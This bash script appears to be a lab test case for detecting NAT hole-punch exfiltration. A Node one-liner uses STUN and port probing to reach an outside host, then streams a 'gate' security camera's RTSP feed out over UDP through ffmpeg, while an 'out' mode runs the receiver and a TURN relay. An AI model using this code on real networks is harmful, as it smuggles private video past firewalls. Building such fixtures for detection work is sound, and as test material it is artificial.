#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=p2p-hole-punch,live-relay half=report tool=node,ffmpeg camera=10.20.0.11 far=out ready=out:3478 seconds=40 parts=dns,camera-gate,recorder-gate,nas,outside-web
# node asks STUN where it is, probes ports of a peer outside until one answers, and sends it from the same socket what ffmpeg reads of gate.
# shellcheck disable=SC2016 # node has its own strings
if [ "$1" = out ]; then
	timeout 60 python3 -c 'import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("198.51.100.66", 50006)); f = open(sys.argv[1], "ab", 0)
while True:
    d, who = s.recvfrom(65536)
    if d == b"hello": s.sendto(b"here I am", who)
    else: f.write(d)' "$LAB/got" &
	exec timeout 60 turnserver -n -L 203.0.113.66 -p 3478 -S --no-cli --no-tls --no-dtls --log-file "$LAB/turn.log" --db "$LAB/turn.db" --pidfile "$LAB/turn.pid"
fi
timeout 40 node -e 'const s = require("dgram").createSocket("udp4"), ask = Buffer.concat([Buffer.from("000100002112a442", "hex"), require("crypto").randomBytes(12)]);
let peer = null; s.on("message", (m, from) => { if (m.toString() !== "here I am" || peer) return; peer = from.port;
	const p = require("child_process").spawn("ffmpeg", ["-nostdin", "-loglevel", "error", "-rtsp_transport", "tcp", "-i", "rtsp://gate.cam.lan/Streaming/Channels/101", "-t", "30", "-c", "copy", "-f", "mpegts", "pipe:1"]);
	p.stdout.on("data", d => { for (let at = 0; at < d.length; at += 1200) s.send(d.subarray(at, at + 1200), peer, "198.51.100.66"); }); p.on("exit", () => setTimeout(() => process.exit(), 500)); });
s.bind(0, () => { s.send(ask, 3478, "203.0.113.66"); const t = setInterval(() => { if (peer) return clearInterval(t); for (let port = 50000; port < 50010; port++) s.send("hello", port, "198.51.100.66"); }, 500); });'
[ "$(stat -c %s "$LAB/got")" -gt 500000 ]
